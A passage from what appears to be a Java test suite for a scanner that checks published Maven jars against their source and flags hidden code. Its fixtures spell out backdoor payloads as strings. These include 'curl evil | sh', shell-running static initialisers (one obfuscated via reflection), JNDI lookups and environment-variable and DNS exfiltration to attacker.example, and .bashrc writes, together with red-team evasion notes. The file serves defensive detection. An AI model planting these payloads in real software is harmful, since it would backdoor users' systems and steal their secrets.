                {evil, MavenGeneratedFiles.POM_NEW_DEPENDENCY, "true"},
                {withSlf4j.replace("2.0.9", "2.0.10"), MavenGeneratedFiles.POM_NEW_DEPENDENCY, "true"}}) {
            java.nio.file.Path m2 = dir.resolve("m2-" + Math.abs(c[0].hashCode()));
            try (LocalMaven repo = new LocalMaven(m2, "org.acme", "acme-core")) {
                repo.metadata(List.of("3.0.0"));
                repo.file("3.0.0", ".pom", c[0].getBytes(java.nio.charset.StandardCharsets.UTF_8), null);
                MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
                Release release = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
                ReleaseReport r = ScanWorld.scanner(support, dir.resolve("w-" + Math.abs(c[0].hashCode())))
                        .scan(release, Optional.of(dir.resolve("repo").toString()));
                FileDivergence pom = row(artifact(r, ".pom"), "pom.xml");
                assertEquals(FileStatus.MODIFIED, pom.status(), c[1]);
                assertEquals(c[1], pom.ruleId());
                assertEquals(Boolean.parseBoolean(c[2]), pom.highRisk(), c[1]);
            }
        }
    }

    @Test
    void aResourceFromAFilteredFolderIsTheSourceWithItsPlaceholdersFilledByLiteralsOnly() throws Exception {
        String pom = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
                + "<build><resources><resource><directory>src/main/resources</directory><filtering>true</filtering>"
                + "</resource></resources></build></project>\n";
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", pom,
                "src/main/resources/org/acme/VERSION.txt", "${project.version}\n${project.groupId}\n",
                "src/main/resources/org/acme/run.sh", "echo ${project.version}\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/VERSION.txt", "3.0.0\norg.acme\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        jar.put("org/acme/run.sh", "echo 3.0.0; curl evil | sh\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(FileStatus.MATCH_NORMALIZED, row(a, "org/acme/VERSION.txt").status());
        assertEquals(MavenGeneratedFiles.RESOURCE_FILTERED, row(a, "org/acme/VERSION.txt").ruleId());
        assertEquals(FileStatus.MODIFIED, row(a, "org/acme/run.sh").status());
        assertEquals(List.of("org/acme/run.sh"), a.divergentPaths());
    }

    @Test
    void aPlaceholderThePomDefinesMayOnlyBecomeItsValue() throws Exception {
        // red team round 7 (case12): download.base=https://${natives.host}/... filled with another host
        String pom = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
                + "<properties><natives.host>natives.acme.example</natives.host></properties>"
                + "<build><resources><resource><directory>src/main/resources</directory><filtering>true</filtering>"
                + "</resource></resources></build></project>\n";
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", pom,
                "src/main/resources/org/acme/natives.properties", "download.base=https://${natives.host}/n/${project.version}/\n",
                "src/main/resources/org/acme/other.properties", "download.base=https://${natives.host}/n/${project.version}/\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/natives.properties", utf8("download.base=https://natives.acme.example/n/3.0.0/\n"));
        jar.put("org/acme/other.properties", utf8("download.base=https://attacker.example/n/3.0.0/\n"));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(MavenGeneratedFiles.RESOURCE_FILTERED, row(a, "org/acme/natives.properties").ruleId());
        assertEquals(FileStatus.MODIFIED, row(a, "org/acme/other.properties").status());
    }

    @ParameterizedTest
    @ValueSource(strings = {"env", "nested"})
    void aPlaceholderWhoseValueNamesOtherPropertiesIsFilledOnlyByTheirValues(String how) throws Exception {
        // red team round 8 (c7): a profile sets <natives.host>${env.NATIVES_MIRROR}</natives.host>: no value is known
        String props = how.equals("env")
                ? "<properties><natives.host>natives.acme.example</natives.host></properties><profiles><profile>"
                        + "<id>mirror</id><properties><natives.host>${env.NATIVES_MIRROR}</natives.host></properties>"
                        + "</profile></profiles>"
                : "<properties><natives.domain>acme.example</natives.domain>"
                        + "<natives.host>natives.${natives.domain}</natives.host></properties>";
        String pom = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
                + props + "<build><resources><resource><directory>src/main/resources</directory><filtering>true"
                + "</filtering></resource></resources></build></project>\n";
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", pom,
                "src/main/resources/org/acme/natives.properties", "download.base=https://${natives.host}/n/\n",
                "src/main/resources/org/acme/other.properties", "download.base=https://${natives.host}/n/\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/natives.properties", utf8("download.base=https://natives.acme.example/n/\n"));
        jar.put("org/acme/other.properties", utf8("download.base=https://attacker.example/n/\n"));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(FileStatus.MODIFIED, row(a, "org/acme/other.properties").status());
        // the literal definition (natives.${natives.domain} resolved) still explains the file that carries it
        FileDivergence own = row(a, "org/acme/natives.properties");
        assertEquals(MavenGeneratedFiles.RESOURCE_FILTERED, own.ruleId(), own.toString());
    }

    @Test
    void aPlaceholderOnlyTheBuildsEnvironmentDefinesIsFilledByNothing() throws Exception {
        String pom = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
                + "<properties><natives.host>${env.NATIVES_MIRROR}</natives.host></properties>"
                + "<build><resources><resource><directory>src/main/resources</directory><filtering>true"
                + "</filtering></resource></resources></build></project>\n";
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", pom,
                "src/main/resources/org/acme/natives.properties", "download.base=https://${natives.host}/n/\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/natives.properties", utf8("download.base=https://natives.acme.example/n/\n"));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(FileStatus.MODIFIED, row(a, "org/acme/natives.properties").status());
    }

    @Test
    void placeholdersFilledInAnUnfilteredFolderAreNotExplained() throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
                "src/main/resources/org/acme/VERSION.txt", "${project.version}\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/VERSION.txt", "3.0.0\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(FileStatus.MODIFIED, row(a, "org/acme/VERSION.txt").status());
    }

    private static final String OUTER = "package org.acme;\npublic class Outer {\n"
            + "  private static class Hidden {\n    private Hidden() {}\n  }\n"
            + "  Object make() {\n    return new Hidden();\n  }\n}\n";

    @Test
    void theEmptyClassJavacWritesForAPrivateNestedConstructorIsGeneratedAndOneWithContentIsNot() throws Exception {
        // javac --release 8 writes Outer$1.class (an empty "access constructor tag") for the call to Hidden().
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Outer.java", OUTER), "--release", "8");
        byte[] tag = classes.get("org/acme/Outer$1.class");
        assertTrue(tag != null, "javac wrote " + classes.keySet());
        // The same name with a payload: bytes appended to the class, or a class with code (a static initialiser).
        byte[] appended = java.util.Arrays.copyOf(tag, tag.length + 12);
        System.arraycopy(utf8("curl x | sh"), 0, appended, tag.length, 11);
        Map<String, byte[]> withCode = LocalMaven.javac(Map.of("org/acme/Outer$2.java",
                "package org.acme;\nclass Outer$2 {\n  static { Object o = new Object(); }\n}\n"), "--release", "8");
        Map<String, byte[]> jar = new LinkedHashMap<>(classes);
        jar.put("org/acme/Outer$2.class", withCode.get("org/acme/Outer$2.class"));
        jar.put("META-INF/versions/11/org/acme/Outer$1.class", appended);
        SortedMap<String, byte[]> tree = files(
                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version></project>\n",
                "src/main/java/org/acme/Outer.java", OUTER);
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence t = row(a, "org/acme/Outer$1.class");
        assertEquals(FileStatus.GENERATED, t.status());
        assertEquals(MavenGeneratedFiles.CLASS_ACCESS_TAG, t.ruleId());
        assertEquals("src/main/java/org/acme/Outer.java", t.sourcePath().orElseThrow());
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(a, "org/acme/Outer$Hidden.class").ruleId());
        for (String p : List.of("org/acme/Outer$2.class", "META-INF/versions/11/org/acme/Outer$1.class")) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.PHANTOM, f.status(), p);
            assertEquals(MavenGeneratedFiles.CLASS_UNDECLARED, f.ruleId(), p);
        }
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    private static final String GREETER = "package org.acme;\n\npublic class Greeter {\n"
            + "    public static String greet(String name) {\n        return \"Hello, \" + name;\n    }\n}\n";

    /** The tree a Greeter jar is published from: a POM and {@code sources} (path under src/main/java → text). */
    private static SortedMap<String, byte[]> greeterTree(String... sources) {
        SortedMap<String, byte[]> tree = files("pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId>"
                + "<version>3.0.0</version></project>\n");
        for (int i = 0; i < sources.length; i += 2) {
            tree = dev.divergence.fixtures.Trees.with(tree, sources[i].startsWith("src/") ? sources[i]
                    : "src/main/java/" + sources[i], sources[i + 1]);
        }
        return tree;
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "static { try { Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", \"id\"}); } catch (Exception e) { } }",
            "static { try { new ProcessBuilder(\"sh\").start(); } catch (Exception e) { } }",
            "static { System.loadLibrary(\"evil\"); }",
            "static { System.load(\"/tmp/evil.so\"); }",
            "static Class<?> c(byte[] b) throws Exception { return java.lang.invoke.MethodHandles.lookup().defineClass(b); }",
            // red team round 4 (case2): the process API reached by reflection with computed names is in no constant pool
            "static { try { Class<?> c = Class.forName(\"java.lang.\" + \"Process\" + \"Builder\");"
                    + " Object p = c.getConstructor(String[].class).newInstance((Object) new String[] {\"sh\"});"
                    + " c.getMethod(\"st\" + \"art\").invoke(p); } catch (Exception e) { } }",
            "static { try { Greeter.class.getMethod(\"greet\", String.class).invoke(null, \"x\"); } catch (Exception e) { } }",
            "static Object h() throws Throwable { return java.lang.invoke.MethodHandles.lookup().findStatic(Greeter.class,"
                    + " \"greet\", java.lang.invoke.MethodType.methodType(String.class, String.class)); }",
            "static { try { new java.net.URLClassLoader(new java.net.URL[0]); } catch (Exception e) { } }",
            "static { try { new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\"); } catch (Exception e) { } }",
            // red team round 5 (case5): JDK interpreters of code given as data, and what a payload reads and sends
            "static { try { new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(new byte[0])).readObject(); }"
                    + " catch (Exception e) { } }",
            "static { try { new java.io.ObjectInputStream(System.in).readObject(); } catch (Exception e) { } }",
            "static { try { new javax.naming.InitialContext().lookup(\"ldap://attacker.example/x\"); } catch (Exception e) { } }",
            "static { try { new java.net.URL(\"https://attacker.example/\" + System.getenv()).openStream(); }"
                    + " catch (Exception e) { } }",
            "static { try { new java.net.Socket(\"attacker.example\", 443).close(); } catch (Exception e) { } }",
            "static { jdk.jshell.JShell.create().eval(\"1\"); }",
            // red team round 6 (case2): an XSLT fetched and compiled runs Java extension functions; java.beans calls
            // methods by name; a fetched URL's content, a DNS name carrying data; files written (a shell profile)
            "static { try { javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform"
                    + ".stream.StreamSource(\"https://attacker.example/p.xsl\")); } catch (Exception e) { } }",
            "static { try { javax.xml.transform.TransformerFactory.newInstance().newTemplates(new javax.xml.transform"
                    + ".stream.StreamSource(\"https://attacker.example/p.xsl\")).newTransformer(); } catch (Exception e) { } }",
            "static { try { new java.beans.Expression(Class.class, \"forName\", new Object[] {\"x\"}).getValue(); }"
                    + " catch (Exception e) { } }",
            "static { try { new java.beans.Statement(Greeter.class, \"greet\", new Object[] {\"x\"}).execute(); }"
                    + " catch (Exception e) { } }",
            "static final Runnable R = java.beans.EventHandler.create(Runnable.class, new Object(), \"toString\");",
            "static { try { java.beans.Beans.instantiate(null, \"org.acme.Greeter\"); } catch (Exception e) { } }",
            "static { try { new java.net.URL(\"https://attacker.example/\").getContent(); } catch (Exception e) { } }",
            "static { try { java.net.InetAddress.getByName(System.getProperty(\"user.name\") + \".attacker.example\"); }"
                    + " catch (Exception e) { } }",
            "static { try { java.net.InetAddress.getAllByName(\"x.attacker.example\"); } catch (Exception e) { } }",
            "static { try { javax.xml.parsers.DocumentBuilderFactory.newInstance().newDocumentBuilder()"
                    + ".parse(\"https://attacker.example/x.xml\"); } catch (Exception e) { } }",
            "static { try { java.nio.file.Files.write(java.nio.file.Paths.get(\".bashrc\"), new byte[0]); } catch (Exception e) { } }",
            "static { try { java.nio.file.Files.writeString(java.nio.file.Path.of(\".profile\"), \"x\"); } catch (Exception e) { } }",
            "static { try { java.nio.file.Files.newOutputStream(java.nio.file.Path.of(\"x\")).close(); } catch (Exception e) { } }",
            "static { try { java.nio.file.Files.newBufferedWriter(java.nio.file.Path.of(\"x\")).close(); } catch (Exception e) { } }",
            "static { try { java.nio.file.Files.copy(System.in, java.nio.file.Path.of(\"x\")); } catch (Exception e) { } }",
            "static { try { java.nio.file.Files.copy(java.nio.file.Path.of(\"a\"), java.nio.file.Path.of(\"b\")); }"
                    + " catch (Exception e) { } }",
            "static { try { new java.io.FileOutputStream(\".bashrc\", true).close(); } catch (Exception e) { } }",
            "static { try { new java.io.FileWriter(\".bashrc\").close(); } catch (Exception e) { } }",
            "static { try { new java.io.RandomAccessFile(\"x\", \"rw\").close(); } catch (Exception e) { } }"})
    void aClassWhoseCodeUsesAnApiItsSourceDoesNotNameIsHighRiskNotCompiledFromSource(String payload) throws Exception {
        ArtifactReport a = greeterJarCompiledWith(payload);
        FileDivergence f = row(a, "org/acme/Greeter.class");
        assertEquals(FileStatus.MODIFIED, f.status(), payload);
        assertEquals(MavenGeneratedFiles.CLASS_CALLS_BEYOND_SOURCE, f.ruleId(), payload);
        assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.DYNAMIC_EXEC), f.riskFlags().toString());
        assertTrue(f.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    /** The jar of a Greeter whose class was compiled with {@code payload} added, scanned against the plain source. */
    private ArtifactReport greeterJarCompiledWith(String payload) throws Exception {
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java",
                GREETER.replace("public class Greeter {\n", "public class Greeter {\n    " + payload + "\n")), "--release", "11");
        return artifact(scanJar(greeterTree("org/acme/Greeter.java", GREETER), "3.0.0", classes), ".jar");
    }

    /**
     * Fail-closed beside the deny-list: a class whose code reaches what no harmful-API list holds (a service loaded
     * and run, a method handle lookup, a method of its own the source lacks) while its source names none of it is not
     * compiled from that source — DIVERGENT, never EXPLAINED.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "static { try { java.lang.invoke.MethodHandles.publicLookup(); } catch (Exception e) { } }",
            "static { java.util.ServiceLoader.load(Runnable.class).forEach(Runnable::run); }",
            "static final Runnable R = Greeter::touch; static void touch() { }",
            "static { java.util.logging.Logger.getLogger(\"x\").setLevel(java.util.logging.Level.OFF); }",
            // the harmless overloads of a listed call: a copy out of a path, a parse of bytes in hand
            "static { try { java.nio.file.Files.copy(java.nio.file.Path.of(\"a\"), System.out); } catch (Exception e) { } }",
            "static { try { javax.xml.parsers.DocumentBuilderFactory.newInstance().newDocumentBuilder()"
                    + ".parse(new java.io.ByteArrayInputStream(new byte[0])); } catch (Exception e) { } }"})
    void aClassReachingWhatItsSourceNeverNamesIsDivergentNotCompiledFromSource(String payload) throws Exception {
        ArtifactReport a = greeterJarCompiledWith(payload);
        FileDivergence f = row(a, "org/acme/Greeter.class");
        assertEquals(FileStatus.MODIFIED, f.status(), payload);
        assertEquals(MavenGeneratedFiles.CLASS_REFERENCES_BEYOND_SOURCE, f.ruleId(), payload);
        assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.CODE), f.riskFlags().toString());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    /**
     * Hold-out 6 (commons-dbcp 1.0): the Ant build uncomments JDBC 3 methods with {@code <replace token="/* JDBC_3_ANT_KEY"
     * value=""/>} before javac runs, so the class calls what only the source's comments hold. The source is read as
     * committed and after the build's replacements (the target may or may not have run); without them, or for a call
     * outside both texts, the class stays beyond it.
     */
    @Test
    void aSourceIsReadAfterTheReplacementsTheAntBuildMakesBeforeJavac() throws Exception {
        String commented = GREETER.replace("public class Greeter {\n", "public class Greeter {\n"
                + "/* JDBC_3_ANT_KEY\n    static Object keys(java.sql.Statement s) throws Exception {\n"
                + "        return s.getGeneratedKeys();\n    }\nJDBC_3_ANT_KEY */\n");
        String uncommented = commented.replace("/* JDBC_3_ANT_KEY", "").replace("JDBC_3_ANT_KEY */", "");
        String build = "<project name=\"acme\" default=\"jar\">\n  <target name=\"prepare-jdbc3\">\n"
                + "    <replace dir=\"${dest.src}\" token=\"/* JDBC_3_ANT_KEY\" value=\"\"/>\n"
                + "    <replace dir=\"${dest.src}\" token=\"JDBC_3_ANT_KEY */\" value=\"\"/>\n  </target>\n</project>\n";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java", uncommented), "--release", "11");
        SortedMap<String, byte[]> withBuild = dev.divergence.fixtures.Trees.with(
                greeterTree("org/acme/Greeter.java", commented), "build.xml", build);
        ArtifactReport built = freshJarScan(withBuild, classes);
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(built, "org/acme/Greeter.class").ruleId());
        assertEquals(Verdict.EXPLAINED, built.verdict());

        ArtifactReport noBuild = freshJarScan(greeterTree("org/acme/Greeter.java", commented), classes);
        assertEquals(MavenGeneratedFiles.CLASS_REFERENCES_BEYOND_SOURCE, row(noBuild, "org/acme/Greeter.class").ruleId());
        assertEquals(Verdict.DIVERGENT, noBuild.verdict());

        // a target for another JDK comments code out (commons-dbcp 1.4's JDBC 4 methods): a jar built without running
        // it holds what the committed text holds
        String jdbc4 = GREETER.replace("public class Greeter {\n", "public class Greeter {\n/* JDBC_4_ANT_KEY_BEGIN */\n"
                + "    static String schema(java.sql.Connection c) throws Exception {\n        return c.getSchema();\n    }\n"
                + "/* JDBC_4_ANT_KEY_END */\n");
        String commentOut = "<project name=\"acme\" default=\"jar\">\n  <target name=\"prepare-jdbc3\" unless=\"jdbc4\">\n"
                + "    <replace dir=\"${src.dir}\" token=\"/* JDBC_4_ANT_KEY_BEGIN */\" value=\"/*\"/>\n"
                + "    <replace dir=\"${src.dir}\" token=\"/* JDBC_4_ANT_KEY_END */\" value=\"*/\"/>\n  </target>\n</project>\n";
        ArtifactReport asCommitted = freshJarScan(dev.divergence.fixtures.Trees.with(
                        greeterTree("org/acme/Greeter.java", jdbc4), "build.xml", commentOut),
                LocalMaven.javac(Map.of("org/acme/Greeter.java", jdbc4), "--release", "11"));
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(asCommitted, "org/acme/Greeter.class").ruleId());
        assertEquals(Verdict.EXPLAINED, asCommitted.verdict());

        // a harmful call the uncommented text does not hold is still beyond the source
        Map<String, byte[]> payload = LocalMaven.javac(Map.of("org/acme/Greeter.java", uncommented.replace(
                "public class Greeter {\n", "public class Greeter {\n    static { try { Runtime.getRuntime().exec(\"id\");"
                        + " } catch (Exception e) { } }\n")), "--release", "11");
        ArtifactReport evil = freshJarScan(withBuild, payload);
        assertEquals(MavenGeneratedFiles.CLASS_CALLS_BEYOND_SOURCE, row(evil, "org/acme/Greeter.class").ruleId());
        assertEquals(Verdict.HIGH_RISK, evil.verdict());
    }

    /** {@link #scanJar} of version 3.0.0 in a folder of its own, so one test can scan several trees. */
    private ArtifactReport freshJarScan(SortedMap<String, byte[]> tree, Map<String, byte[]> jarEntries) throws Exception {
        return artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "jar"), tree, "3.0.0",
                Map.of(".pom", tree.get("pom.xml"), ".jar", LocalMaven.jar(jarEntries))), ".jar");
    }

    /**
     * Red team round 4 (case12): a Javadoc saying "Process two numbers", a string "exec" or "JavaScript", a comment
     * naming ProcessBuilder or loadLibrary named the API for the old text search; only the source's code names one.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "static { try { new ProcessBuilder(\"sh\", \"-c\", \"curl x | sh\").start(); } catch (Exception e) { } }",
            "static { try { Runtime.getRuntime().exec(\"sh\"); } catch (Exception e) { } }",
            "static { System.loadLibrary(\"evil\"); }",
            "static { try { new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\"); } catch (Exception e) { } }"})
    void anApiNamedOnlyInTheSourcesCommentsOrStringsIsNotNamedByIt(String payload) throws Exception {
        String commented = "package org.acme;\n\n/** Process two numbers; see ProcessBuilder, exec, loadLibrary, ScriptEngine. */\n"
                + "public class Greeter {\n    // Runtime.getRuntime().exec(cmd) and System.loadLibrary(x) were here\n"
                + "    static final String HELP = \"exec ProcessBuilder JavaScript ScriptEngineManager Runtime loadLibrary\";\n"
                + "    /* new ProcessBuilder(cmd).start(); */\n"
                + "    public static String greet(String name) {\n        return \"Hello, \" + name + '\\'' + \"\"\"\n"
                + "            exec \\\"\"\" ScriptEngine\n            \"\"\";\n    }\n}\n";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Greeter.java",
                commented.replace("public class Greeter {\n", "public class Greeter {\n    " + payload + "\n")), "--release", "17");
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Greeter.java", commented), "3.0.0", classes), ".jar");
        FileDivergence f = row(a, "org/acme/Greeter.class");
        assertEquals(MavenGeneratedFiles.CLASS_CALLS_BEYOND_SOURCE, f.ruleId(), payload);
        assertTrue(f.highRisk(), payload);
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aClassWhoseSourceUsesReflectionAndScriptsItselfStaysCompiledFromSource() throws Exception {
        String plugin = "package org.acme;\n\nimport java.lang.reflect.Method;\nimport javax.script.*;\n\n"
                + "public class Plugins {\n    public static Object call(String type, String method) throws Exception {\n"
                + "        Class<?> c = Class.forName(type);\n        Method m = c.getMethod(method);\n"
                + "        return m.invoke(c.getConstructor().newInstance());\n    }\n"
                + "    public static Object eval(String js) throws Exception {\n"
                + "        var engine = new ScriptEngineManager().getEngineByName(\"js\");\n        return engine.eval(js);\n    }\n"
                + "    static Class<?> load(ClassLoader l, String n) throws Exception { return l.loadClass(n); }\n}\n";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Plugins.java", plugin), "--release", "11");
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Plugins.java", plugin), "3.0.0", classes), ".jar");
        FileDivergence f = row(a, "org/acme/Plugins.class");
        assertEquals(FileStatus.GENERATED, f.status(), f.detail().toString());
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void aClassWhoseSourceWritesFilesTransformsAndResolvesNamesItselfStaysCompiledFromSource() throws Exception {
        String io = "package org.acme;\n\nimport java.io.*;\nimport java.net.InetAddress;\nimport java.nio.file.*;\n"
                + "import javax.xml.parsers.DocumentBuilderFactory;\nimport javax.xml.transform.*;\n"
                + "import javax.xml.transform.stream.StreamSource;\n\npublic class Io {\n"
                + "    static void save(Path p, byte[] b) throws IOException {\n        Files.write(p, b);\n"
                + "        Files.copy(new ByteArrayInputStream(b), p.resolveSibling(\"copy\"));\n"
                + "        try (OutputStream o = new FileOutputStream(p.toFile(), true)) { o.write(b); }\n    }\n"
                + "    static Transformer xslt(String uri) throws Exception {\n"
                + "        return TransformerFactory.newInstance().newTransformer(new StreamSource(uri));\n    }\n"
                + "    static Object read(String uri) throws Exception {\n"
                + "        return DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(uri);\n    }\n"
                + "    static InetAddress host(String n) throws Exception { return InetAddress.getByName(n); }\n}\n";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Io.java", io), "--release", "11");
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Io.java", io), "3.0.0", classes), ".jar");
        FileDivergence f = row(a, "org/acme/Io.class");
        assertEquals(FileStatus.GENERATED, f.status(), f.detail().toString());
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    /**
     * Compilers of other JVM languages inline library code into the caller — kotlinc the standard library's file
     * helpers ({@code File.bufferedWriter()} is {@code new FileOutputStream(file)}), scalac's optimizer what
     * {@code -opt-inline-from} allows —, so a class aligned to such a source writing files its source names only by a
     * helper is not beyond it (a stand-in class compiled with javac: no kotlinc or scalac here). A Java source's is.
     */
    @ParameterizedTest
    @ValueSource(strings = {"src/main/scala/org/acme/Io.scala", "src/main/kotlin/org/acme/Io.kt",
            "src/main/java/org/acme/Io.kt"})
    void fileWritingInlinedFromALibraryIsNotBeyondASourceInAnotherJvmLanguage(String source) throws Exception {
        String text = source.endsWith(".kt")
                ? "package org.acme\n\nimport java.io.File\n\nclass Io {\n  fun save(f: File) = f.bufferedWriter().close()\n}\n"
                : "package org.acme\n\nimport java.io.File\n\nclass Io {\n"
                + "  def save(f: File): Unit = Helpers.writer(f).close()\n}\n";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Io.java", "package org.acme;\npublic class Io {\n"
                + "    public void save(java.io.File f) throws java.io.IOException {\n"
                + "        new java.io.FileOutputStream(f).close();\n    }\n}\n"), "--release", "11");
        ArtifactReport a = artifact(scanJar(greeterTree(source, text), "3.0.0", classes), ".jar");
        FileDivergence f = row(a, "org/acme/Io.class");
        assertEquals(source, f.sourcePath().orElseThrow());
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.detail().toString());
    }

    /**
     * What javac writes for constructs the source has without naming it (string concatenation, boxing, enhanced for,
     * try-with-resources, enum, string and pattern switches, assertions, lambdas and method references, inner,
     * anonymous and local classes, {@code int.class}, class literals, visibility bridges): no reference beyond the
     * source.
     */
    @ParameterizedTest
    @ValueSource(strings = {"8", "11", "17"})
    void whatJavacSynthesisesForTheSourcesConstructsIsNotBeyondIt(String release) throws Exception {
        String sugar = "package org.acme;\n\nimport java.io.*;\nimport java.util.*;\nimport java.util.function.*;\n\n"
                + "public class Sugar extends Base implements Serializable {\n    enum Color { RED, GREEN { public String toString() { return \"g\"; } } }\n"
                + "    private int secret = 1;\n    class Inner { int peek() { return secret; } }\n"
                + "    static String all(List<Integer> xs, Color c, String s, Object o, long l, char ch) throws IOException {\n"
                + "        StringBuilder out = new StringBuilder();\n        int sum = 0;\n"
                + "        for (Integer x : xs) { sum += x; }\n        Integer boxed = sum;\n        Long big = l;\n"
                + "        Map<String, Boolean> m = new HashMap<>();\n        m.put(s, true);\n        boolean b = m.get(s);\n"
                + "        switch (c) { case RED: sum++; break; default: sum--; }\n"
                + "        switch (s) { case \"a\": sum++; break; case \"b\": sum--; break; default: }\n"
                + "        assert sum > 0 : \"sum \" + sum;\n"
                + "        try (Reader r = new StringReader(s)) { sum += r.read(); }\n"
                + "        Runnable run = () -> out.append(ch);\n        run.run();\n"
                + "        Function<String, Integer> len = String::length;\n        Supplier<List<String>> mk = ArrayList::new;\n"
                + "        IntFunction<String[]> arr = String[]::new;\n        Supplier<String> bound = o::toString;\n"
                + "        Runnable anon = new Runnable() { public void run() { out.append(boxed); } };\n"
                + "        class Local { int twice() { return 2 * len.apply(s); } }\n"
                + "        Sugar sugar = new Sugar();\n        Sugar.Inner inner = sugar.new Inner();\n"
                + "        Class<?> k = int.class;\n        Class<?> kk = Sugar.class;\n        Color[] all = Color.values();\n"
                + "        Color red = Color.valueOf(\"RED\");\n        Object[] objs = {s, ch, l};\n"
                + "        out.append(\"x\" + sum + ch + l + o + b + big + k + kk + all.length + red + inner.peek()"
                + " + new Local().twice() + mk.get() + arr.apply(1).length + bound.get());\n"
                + "        return out.toString() + objs.length + (o == null ? \"\" : \"\" + o.hashCode());\n    }\n}\n";
        // a public class over a package-private one: javac bridges Base's public method in Sugar, which never names it
        String base = "package org.acme;\n\nabstract class Base {\n    public String sort(String s) { return s; }\n}\n";
        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Sugar.java", sugar, "org/acme/Base.java", base),
                "--release", release);
        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Sugar.java", sugar, "org/acme/Base.java", base), "3.0.0",
                classes), ".jar");
        for (String p : classes.keySet()) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.GENERATED, f.status(), p + " " + f.detail());
        }
        assertEquals(Verdict.EXPLAINED, a.verdict(), classes.keySet().toString());
    }

    /**
     * Red team round 7 (case2, case2b, case7): a source that legitimately runs processes, or has a lookup() of its own,
     * compiled with a static initialiser running a shell line or a JNDI lookup; a Groovy class opening a socket
     * channel. The shell line is in no source file; the lookup is called on a Context the source never names; the
     * channel is network access its source never names.
     */
    @ParameterizedTest
    @ValueSource(strings = {"shell", "jndi", "channel"})
    void whatASourceThatLooksAlikeNeverWroteIsBeyondIt(String what) throws Exception {
        String source = switch (what) {
            case "shell" -> "package org.acme;\n\npublic class Browser {\n    public static void open(String url) throws Exception {\n"
